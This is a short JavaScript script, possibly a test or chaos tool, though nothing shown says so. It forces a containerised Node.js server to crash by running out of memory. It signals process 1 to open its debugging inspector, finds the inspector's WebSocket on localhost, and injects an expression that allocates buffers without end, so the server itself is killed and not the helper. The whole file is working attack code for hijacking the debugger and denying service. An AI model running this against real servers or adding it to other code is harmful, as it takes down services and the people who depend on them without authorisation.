// Runs in a server's container and makes the server itself (process 1) use up all memory, through its inspector. If another
// process did, the kernel would kill that one, and the container would survive.

process.kill(1, "SIGUSR1");
const expression = "{ const all = []; for (;;) all.push(Buffer.alloc(1 << 24, 1)); }";

async function inspectorUrl() {
  for (;;) {
    try {
      const response = await fetch("http://127.0.0.1:9229/json/list");
      const [{ webSocketDebuggerUrl }] = await response.json();
      return webSocketDebuggerUrl;
    } catch {
      await new Promise((next) => setTimeout(next, 20));
    }
  }
}

void inspectorUrl().then((url) => {
  const inspector = new WebSocket(url);
  const command = JSON.stringify({ id: 1, method: "Runtime.evaluate", params: { expression } });
  inspector.addEventListener("open", () => inspector.send(command));
});
